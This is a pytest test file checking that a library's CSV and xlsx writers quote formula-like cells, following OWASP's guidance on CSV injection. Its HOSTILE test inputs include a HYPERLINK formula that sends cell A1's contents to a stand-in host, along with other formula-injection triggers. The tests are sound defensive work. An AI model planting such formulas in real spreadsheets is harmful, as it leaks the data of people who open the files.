"""Base file utilities: spreadsheet-safe CSV and xlsx cells (OWASP's advice against CSV
injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from qcplan.files import neutralise_cell, neutralise_sheet, write_csv_safe

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "click")', "+1+2", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote(text: str):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, np.float64(-0.25), np.int64(-3), 0, None, np.nan,
                                   "plain", "5", "GDP -5%", "", "'quoted"])
def test_numbers_and_harmless_text_unchanged(value: object):
    out = neutralise_cell(value)
    assert out is value or out == value or (out != out and value != value)


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_text_cells_neutralised_numbers_stay_numbers(tmp_path: Path):
    df = pd.DataFrame({
        "name": pd.array(HOSTILE, dtype="string"),
        "obj": HOSTILE[::-1],
        "value": [-1.5, -2.0, 3.0, -4.0, 5.0, -6.25],
        "count": [-1, 2, -3, 4, -5, 6],
        "cat": pd.Categorical(["-x", "y", "=z", "y", "y", "y"]),
    })
    path = write_csv_safe(df, tmp_path / "out.csv")
    assert path.read_bytes().startswith("\ufeff".encode())
    rows = read_cells(path)
    assert rows[0] == ["name", "obj", "value", "count", "cat"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in body] == ["'" + t for t in HOSTILE[::-1]]
    assert [r[2] for r in body] == ["-1.5", "-2.0", "3.0", "-4.0", "5.0", "-6.25"]
    assert [r[3] for r in body] == ["-1", "2", "-3", "4", "-5", "6"]
    assert [r[4] for r in body] == ["'-x", "y", "'=z", "y", "y", "y"]
    assert df["name"].iloc[0] == HOSTILE[0]  # the caller's frame is left alone


def test_xlsx_cells_are_text_with_quote_prefix(tmp_path: Path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "value"])
    for text in HOSTILE:
        ws.append([text, -1.5])
    assert ws["A2"].data_type == "f"  # what openpyxl does with "=..." unless told otherwise
    neutralise_sheet(ws)
    wb.save(tmp_path / "book.xlsx")
    back = openpyxl.load_workbook(tmp_path / "book.xlsx")["Sheet"]
    for i, text in enumerate(HOSTILE, start=2):
        cell = back.cell(row=i, column=1)
        assert cell.data_type == "s" and cell.quotePrefix, text
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert back.cell(row=i, column=2).value == -1.5
